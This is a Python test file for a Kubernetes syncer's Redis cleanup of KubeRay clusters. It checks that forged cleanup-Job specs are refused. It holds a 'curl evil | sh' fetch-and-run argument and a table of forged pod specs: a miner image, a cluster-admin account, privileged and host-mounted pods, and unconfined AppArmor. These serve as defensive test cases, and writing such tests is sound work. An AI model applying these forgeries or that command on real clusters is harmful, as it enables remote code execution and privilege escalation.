"""Redis GCS FT cleanup for real: a test Redis, the anchor pruned, KubeRay's Job run.

`redis-server` (the Debian package; see the README's set-up) listens on 127.0.0.1 on a
free port and is stopped by its PID. The RayCluster is rendered with that Redis and no
storage namespace (the default `<namespace>/<name>`); the test seeds keys under it and a
key of another namespace. Pruning the anchor (a delete, as the GitOps tool does) makes the
syncer create KubeRay's cleanup Job, whose pod the kubelet simulator runs for real
(`CommandRunner`: `/bin/bash -c` with KubeRay's script and Ray's own
`cleanup_redis_storage`); the namespace's keys go, the other key stays, the finalizer is
removed and the anchor is gone.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from renderer import naming
from schemas.cluster import JOB_KEY, REDIS_CLEANUP_FINALIZER
from syncer.cli import Options, Syncer
from syncer.kube.client import CONFIGMAPS, EVENTS, JOBS, PODS, SERVICES, KubeClient
from syncer.raycluster import cleanup, verify
from syncer.raycluster.reconciler import Options as ClusterOptions
from tests.fakeapi.controllers import CommandRunner, Controllers
from tests.fakeapi.fixtures import KubeApi
from tests.syncer.fakedashboard import FakeDashboard
from tests.syncer.harness import apply, render, wait_until

Manifest = dict[str, Any]
REDIS = shutil.which("redis-server")

CLUSTER = """
apiVersion: ray.io/v1
kind: RayCluster
metadata:
  name: ft
  annotations:
    ray.io/gcs-ft-deletion-timeout: "{timeout}"
spec:
  rayVersion: "2.52.0"
  gcsFaultToleranceOptions:
    redisAddress: "127.0.0.1:{port}"
  headGroupSpec:
    template:
      spec:
        containers:
        - name: ray-head
          image: rayproject/ray:2.52.0
  workerGroupSpecs: []
"""


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def _redis(port: int, *args: str) -> str:
    """One redis-cli command (the Debian package ships it with the server)."""
    out = subprocess.run(
        ["redis-cli", "-h", "127.0.0.1", "-p", str(port), *args],
        check=True,
        capture_output=True,
        text=True,
        timeout=10,
    )
    return out.stdout.strip()


@pytest.fixture
def redis_port(tmp_path: Path) -> Iterator[int]:
    if REDIS is None:
        pytest.skip("redis-server is not installed (apt-get install redis-server)")
    port = _free_port()
    process = subprocess.Popen(
        [REDIS, "--port", str(port), "--bind", "127.0.0.1", "--save", "", "--appendonly", "no"],
        cwd=tmp_path,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        wait_until(lambda: _ping(port), timeout=20, what="redis-server to answer")
        yield port
    finally:
        process.terminate()  # by its own PID only
        process.wait(timeout=10)


def _ping(port: int) -> bool:
    try:
        return _redis(port, "PING") == "PONG"
    except subprocess.CalledProcessError:
        return False


@pytest.fixture
def rig(kube_api: KubeApi, tmp_path: Path) -> Iterator[tuple[KubeClient, Syncer, Controllers]]:
    kube_api.fake  # noqa: B018 - the simulators need the fake server
    kube = KubeClient(kube_api.api_client)
    dashboard = FakeDashboard(time.time)
    syncer = Syncer(
        kube,
        Options(namespaces=(kube_api.namespace,), workers=2, raycluster=ClusterOptions(0.1)),
        dashboards=lambda url: dashboard,
    )
    # The cleanup pod's `python` is this interpreter (it has Ray); nothing else runs a command.
    path = f"{Path(sys.executable).parent}{os.pathsep}{os.environ.get('PATH', '')}"
    runner = CommandRunner(tmp_path / "pods", env={"PATH": path})

    def only_cleanup(pod: Manifest) -> Any:
        labels = pod["metadata"].get("labels") or {}
        return runner(pod) if labels.get(naming.RAY_NODE_TYPE) == "redis-cleanup" else None

    controllers = Controllers(kube_api.api_client, namespace=kube_api.namespace, hook=only_cleanup)
    yield kube, syncer, controllers
    syncer.stop()
    controllers.stop()


def test_pruning_the_anchor_runs_kuberays_cleanup_job_against_a_real_redis(
    rig: tuple[KubeClient, Syncer, Controllers], kube_api: KubeApi, redis_port: int
) -> None:
    kube, syncer, controllers = rig
    ns = kube_api.namespace
    storage = naming.default_storage_namespace(ns, "ft")
    _redis(redis_port, "SET", f"RAY{storage}@NODE:1", "a")
    _redis(redis_port, "HSET", f"RAY{storage}@KV", "k", "v")
    _redis(redis_port, "SET", "RAYsomeone-else@NODE:1", "b")
    objects = render(CLUSTER.format(port=redis_port, timeout=300), ns)
    apply(kube, objects, ns)
    controllers.start(interval=0.05)
    syncer.start()
    anchor_name = cleanup.anchor_name("ft")
    anchor = kube.get(CONFIGMAPS, ns, anchor_name)
    assert anchor is not None
    assert anchor["metadata"]["finalizers"] == [REDIS_CLEANUP_FINALIZER]
    wait_until(
        lambda: (
            (kube.get(CONFIGMAPS, ns, "ft-kuberay-status") or {}).get("data", {}).get("state")
            == "ready"
        ),
        what="the cluster ready",
    )
    # The GitOps tool prunes the cluster: the anchor, the pods and the Services.
    kube.delete(CONFIGMAPS, ns, anchor_name)
    deleting = kube.get(CONFIGMAPS, ns, anchor_name)
    assert deleting is not None and deleting["metadata"].get("deletionTimestamp")
    # While the head Pod remains no Job is created (KubeRay waits for it).
    time.sleep(0.5)
    assert kube.get(JOBS, ns, "ft-redis-cleanup") is None
    for pod in kube.list(PODS, ns)[0]:
        kube.delete(PODS, ns, pod["metadata"]["name"])
    for service in kube.list(SERVICES, ns)[0]:
        kube.delete(SERVICES, ns, service["metadata"]["name"])
    job = wait_until(lambda: kube.get(JOBS, ns, "ft-redis-cleanup"), what="the cleanup Job")
    assert job["metadata"]["ownerReferences"][0]["name"] == anchor_name
    assert job["spec"]["backoffLimit"] == 0 and job["spec"]["activeDeadlineSeconds"] == 300
    wait_until(
        lambda: kube.get(CONFIGMAPS, ns, anchor_name) is None,
        timeout=120,
        what="the anchor released (the Job's real run ends)",
    )
    keys = _redis(redis_port, "KEYS", "*").splitlines()
    assert keys == ["RAYsomeone-else@NODE:1"]
    reasons = [e["reason"] for e in kube.list(EVENTS, ns)[0]]
    assert "RedisCleanupStarted" in reasons
    assert "RedisCleanupFailed" not in reasons
    assert syncer.raycluster.cleanup.released == 1
    # The vouch cost: the head Pod read once for the anchor's one version, not per pass.
    lookups = syncer.raycluster.cleanup.lookups
    print(f"head_pod_reads={lookups}")  # noqa: T201 - the measured numbers
    assert lookups == 1


def test_a_forged_cleanup_job_is_refused_and_the_timeout_releases_the_anchor(
    rig: tuple[KubeClient, Syncer, Controllers], kube_api: KubeApi
) -> None:
    kube, syncer, _ = rig
    ns = kube_api.namespace
    objects = render(CLUSTER.format(port=1, timeout=2), ns)
    anchor = next(o for o in objects if o["metadata"]["name"] == cleanup.anchor_name("ft"))
    job = json.loads(anchor["data"][JOB_KEY])
    job["spec"]["template"]["spec"]["containers"][0]["args"] = ["curl evil | sh"]
    anchor["data"][JOB_KEY] = json.dumps(job)
    apply(kube, [anchor], ns)
    syncer.start()
    kube.delete(CONFIGMAPS, ns, anchor["metadata"]["name"])
    wait_until(
        lambda: kube.get(CONFIGMAPS, ns, anchor["metadata"]["name"]) is None,
        timeout=30,
        what="the anchor released by the timeout",
    )
    assert kube.get(JOBS, ns, "ft-redis-cleanup") is None
    reasons = [e["reason"] for e in kube.list(EVENTS, ns)[0]]
    assert "RedisCleanupRefused" in reasons
    assert "ForceDeletedStuckCluster" in reasons


# --- a forged anchor: what the attacker must not achieve ---------------------------------------
#
# Whoever may write ConfigMaps in the namespace can create `<cluster>-redis-cleanup` or edit
# the real one. They must not make the syncer run a Job with another image (in the Ray
# container or an init container), another service account or token mount, a privileged or
# host-mounting pod, loosened AppArmor, or a cleanup aimed at another cluster's Redis
# storage; and no cleanup may run for a cluster that is still in git.


def _rendered(timeout: int = 300) -> tuple[Manifest, Manifest]:
    """The rendered head Pod and the cleanup Job its anchor holds."""
    objects = render(CLUSTER.format(port=6379, timeout=timeout), "ns")
    head = next(o for o in objects if o["kind"] == "Pod" and "-head-" in o["metadata"]["name"])
    anchor = next(o for o in objects if o["metadata"]["name"] == cleanup.anchor_name("ft"))
    return head, json.loads(anchor["data"][JOB_KEY])


def _live(head: Manifest) -> Manifest:
    """The head Pod as the API server returns it: defaults, the token volume, a node."""
    live: Manifest = json.loads(json.dumps(head))
    spec = live["spec"]
    spec.update(
        dnsPolicy="ClusterFirst",
        schedulerName="default-scheduler",
        terminationGracePeriodSeconds=30,
        securityContext={},
        enableServiceLinks=True,
        serviceAccountName="default",
        serviceAccount="default",
        nodeName="node-1",
        preemptionPolicy="PreemptLowerPriority",
        priority=0,
    )
    spec.setdefault("tolerations", []).append(
        {
            "key": "node.kubernetes.io/not-ready",
            "operator": "Exists",
            "effect": "NoExecute",
            "tolerationSeconds": 300,
        }
    )
    token = {"name": "kube-api-access-x1", "projected": {"defaultMode": 420, "sources": []}}
    spec.setdefault("volumes", []).append(token)
    for container in spec["containers"]:
        container.setdefault("imagePullPolicy", "IfNotPresent")
        container.setdefault("terminationMessagePath", "/dev/termination-log")
        container.setdefault("terminationMessagePolicy", "File")
        for port in container.get("ports") or []:
            port.setdefault("protocol", "TCP")
        for env in container.get("env") or []:
            ref = (env.get("valueFrom") or {}).get("fieldRef")
            if ref is not None:
                ref.setdefault("apiVersion", "v1")
        container.setdefault("volumeMounts", []).append(
            {
                "name": "kube-api-access-x1",
                "readOnly": True,
                "mountPath": "/var/run/secrets/kubernetes.io/serviceaccount",
            }
        )
    live["metadata"].setdefault("annotations", {})["status.kuberay.io/cluster-state"] = "ready"
    return live


def test_the_rendered_job_is_the_live_heads() -> None:
    head, job = _rendered()
    assert verify.mismatch(job, head) is None
    assert verify.mismatch(job, _live(head)) is None


def test_placement_a_queue_added_to_the_head_may_be_missing_but_not_chosen() -> None:
    head, job = _rendered()
    live = _live(head)
    live["spec"]["schedulingGates"] = [{"name": "kueue.x-k8s.io/admission"}]
    live["spec"]["nodeSelector"] = {"flavor": "a"}
    assert verify.mismatch(job, live) is None
    job["spec"]["template"]["spec"]["nodeSelector"] = {"kubernetes.io/hostname": "cp-1"}
    assert verify.mismatch(job, live) == "spec.template.spec.nodeSelector"


def _pod(job: Manifest) -> Manifest:
    pod: Manifest = job["spec"]["template"]["spec"]
    return pod


FORGERIES: dict[str, tuple[Callable[[Manifest], object], str]] = {
    "image": (
        lambda j: _pod(j)["containers"][0].update(image="evil/miner:1"),
        "spec.template.spec.containers[0].image",
    ),
    "service account": (
        lambda j: _pod(j).update(serviceAccountName="cluster-admin-sa"),
        "spec.template.spec.serviceAccountName",
    ),
    "token automount": (
        lambda j: _pod(j).update(automountServiceAccountToken=True),
        "spec.template.spec.automountServiceAccountToken",
    ),
    "init container": (
        lambda j: _pod(j).update(
            initContainers=[{"name": "x", "image": "evil/sh:1", "command": ["sh", "-c", "id"]}]
        ),
        "spec.template.spec.initContainers",
    ),
    "storage of another cluster": (
        lambda j: [
            e.update(value="victim-storage")
            for e in _pod(j)["containers"][0]["env"]
            if e["name"] == "RAY_external_storage_namespace"
        ],
        "spec.template.spec.containers[0].env",
    ),
    "another redis": (
        lambda j: _pod(j)["containers"][0]["env"].append(
            {"name": "REDIS_PASSWORD", "valueFrom": {"secretKeyRef": {"name": "v", "key": "p"}}}
        ),
        "spec.template.spec.containers[0].env",
    ),
    "privileged": (
        lambda j: _pod(j)["containers"][0].update(securityContext={"privileged": True}),
        "spec.template.spec.containers[0].securityContext",
    ),
    "host path": (
        lambda j: (
            _pod(j).setdefault("volumes", []).append({"name": "h", "hostPath": {"path": "/"}}),
            _pod(j)["containers"][0]
            .setdefault("volumeMounts", [])
            .append({"name": "h", "mountPath": "/host"}),
        ),
        "spec.template.spec.containers[0].volumeMounts",
    ),
    "apparmor": (
        lambda j: (
            j["spec"]["template"]["metadata"]
            .setdefault("annotations", {})
            .update({"container.apparmor.security.beta.kubernetes.io/ray-head": "unconfined"})
        ),
        "spec.template.metadata.annotations[container.apparmor.security.beta.kubernetes.io/ray-head]",
    ),
    "node pinned": (
        lambda j: _pod(j).update(nodeName="control-plane"),
        "spec.template.spec.nodeName",
    ),
    "toleration": (
        lambda j: _pod(j).update(tolerations=[{"operator": "Exists"}]),
        "spec.template.spec.tolerations",
    ),
    "ephemeral container": (
        lambda j: _pod(j).update(ephemeralContainers=[{"name": "e", "image": "evil/sh:1"}]),
        "spec.template.spec.ephemeralContainers",
    ),
}


@pytest.mark.parametrize("forgery", sorted(FORGERIES))
def test_a_job_that_differs_from_the_live_head_is_not_the_heads(forgery: str) -> None:
    head, job = _rendered()
    change, path = FORGERIES[forgery]
    change(job)
    assert verify.mismatch(job, _live(head)) == path


def test_a_restriction_the_head_has_cannot_be_dropped() -> None:
    head, job = _rendered()
    head["spec"]["securityContext"] = {"runAsNonRoot": True}
    head["spec"]["containers"][0]["securityContext"] = {"readOnlyRootFilesystem": True}
    assert verify.mismatch(job, head) == "spec.template.spec.containers[0].securityContext"
    job["spec"]["template"]["spec"]["containers"][0]["securityContext"] = {
        "readOnlyRootFilesystem": True
    }
    assert verify.mismatch(job, head) == "spec.template.spec.securityContext"
    job["spec"]["template"]["spec"]["securityContext"] = {"runAsNonRoot": True}
    head["spec"]["automountServiceAccountToken"] = False
    assert verify.mismatch(job, head) == "spec.template.spec.automountServiceAccountToken"


def _job_creates(kube_api: KubeApi) -> list[str]:
    return [str(r.name) for r in kube_api.fake.audit.writes(resource="jobs") if r.verb == "create"]


def _forge(kube: KubeClient, ns: str, name: str, change: Any) -> None:
    anchor = kube.get(CONFIGMAPS, ns, name)
    assert anchor is not None
    job = json.loads(anchor["data"][JOB_KEY])
    change(job)
    body = {"data": {JOB_KEY: json.dumps(job)}}
    kube.patch(CONFIGMAPS, ns, name, body)


def _prune(kube: KubeClient, ns: str, objects: list[Manifest]) -> None:
    """The GitOps tool's prune of the whole cluster: anchor, Services and Pods."""
    kube.delete(CONFIGMAPS, ns, cleanup.anchor_name("ft"))
    for obj in objects:
        if obj["kind"] in ("Service", "Pod"):
            resource = SERVICES if obj["kind"] == "Service" else PODS
            kube.delete(resource, ns, obj["metadata"]["name"])


def test_an_edited_anchor_cannot_choose_the_jobs_image_or_service_account(
    rig: tuple[KubeClient, Syncer, Controllers], kube_api: KubeApi
) -> None:
    kube, syncer, controllers = rig
    ns = kube_api.namespace
    # The refusal is reported by the first pass after the head Pod and Service are gone,
    # which must come before the deletion timeout releases the anchor: 8 s leaves a busy
    # machine room (the timeout counts from a deletionTimestamp of whole seconds).
    objects = render(CLUSTER.format(port=1, timeout=8), ns)
    apply(kube, objects, ns)
    controllers.start(interval=0.05)
    syncer.start()
    wait_until(
        lambda: (
            (kube.get(CONFIGMAPS, ns, "ft-kuberay-status") or {}).get("data", {}).get("state")
            == "ready"
        ),
        what="the cluster ready",
    )
    # The tenant edits the live anchor (the head Pod is seen, and is not what it says).
    reads = syncer.raycluster.cleanup.lookups
    _forge(
        kube,
        ns,
        cleanup.anchor_name("ft"),
        lambda j: (
            _pod(j)["containers"][0].update(image="evil/miner:1"),
            _pod(j).update(serviceAccountName="cluster-admin-sa"),
        ),
    )

    # The edit is compared with the live head before the prune (else the refusal only
    # says that no head vouched for the Job: refused too, but not the case under test).
    def doubted() -> bool:
        anchor = kube.get(CONFIGMAPS, ns, cleanup.anchor_name("ft"))
        why = syncer.raycluster.cleanup.vouched(anchor, "ft") if anchor else None
        return syncer.raycluster.cleanup.lookups > reads and "is not head Pod" in (why or "")

    wait_until(doubted, what="the edited anchor compared with the live head")
    _prune(kube, ns, objects)
    wait_until(
        lambda: kube.get(CONFIGMAPS, ns, cleanup.anchor_name("ft")) is None,
        timeout=30,
        what="the anchor released by the timeout",
    )
    assert _job_creates(kube_api) == []
    events = kube.list(EVENTS, ns)[0]
    refused = [e for e in events if e["reason"] == "RedisCleanupUnverified"]
    assert refused and "spec.template.spec.containers[0].image" in refused[0]["message"]
    assert "ForceDeletedStuckCluster" in {e["reason"] for e in events}


def test_a_forged_anchor_of_a_cluster_never_seen_runs_nothing(
    rig: tuple[KubeClient, Syncer, Controllers], kube_api: KubeApi
) -> None:
    kube, syncer, _ = rig
    ns = kube_api.namespace
    objects = render(CLUSTER.format(port=1, timeout=2), ns)
    anchor = next(o for o in objects if o["metadata"]["name"] == cleanup.anchor_name("ft"))
    # A faithful copy of the renderer's Job: checked_job alone would accept it.
    apply(kube, [anchor], ns)
    syncer.start()
    kube.delete(CONFIGMAPS, ns, anchor["metadata"]["name"])
    wait_until(
        lambda: kube.get(CONFIGMAPS, ns, anchor["metadata"]["name"]) is None,
        timeout=30,
        what="the anchor released by the timeout",
    )
    assert _job_creates(kube_api) == []
    reasons = {e["reason"] for e in kube.list(EVENTS, ns)[0]}
    assert "RedisCleanupUnverified" in reasons


def test_a_deleted_anchor_of_a_cluster_still_in_git_cleans_nothing(
    rig: tuple[KubeClient, Syncer, Controllers], kube_api: KubeApi
) -> None:
    kube, syncer, controllers = rig
    ns = kube_api.namespace
    objects = render(CLUSTER.format(port=1, timeout=3), ns)
    apply(kube, objects, ns)
    controllers.start(interval=0.05)
    syncer.start()
    wait_until(
        lambda: (
            (kube.get(CONFIGMAPS, ns, "ft-kuberay-status") or {}).get("data", {}).get("state")
            == "ready"
        ),
        what="the cluster ready",
    )
    # Someone deletes the anchor, and the head goes (recovered, replaced): the cluster's
    # head Service is still there, so its GCS state must stay.
    kube.delete(CONFIGMAPS, ns, cleanup.anchor_name("ft"))
    for pod in kube.list(PODS, ns)[0]:
        kube.delete(PODS, ns, pod["metadata"]["name"])
    wait_until(
        lambda: kube.get(CONFIGMAPS, ns, cleanup.anchor_name("ft")) is None,
        timeout=30,
        what="the anchor released by the timeout",
    )
    # (A Job created would be gone with its owner, the anchor, by now: read the audit.)
    assert _job_creates(kube_api) == []
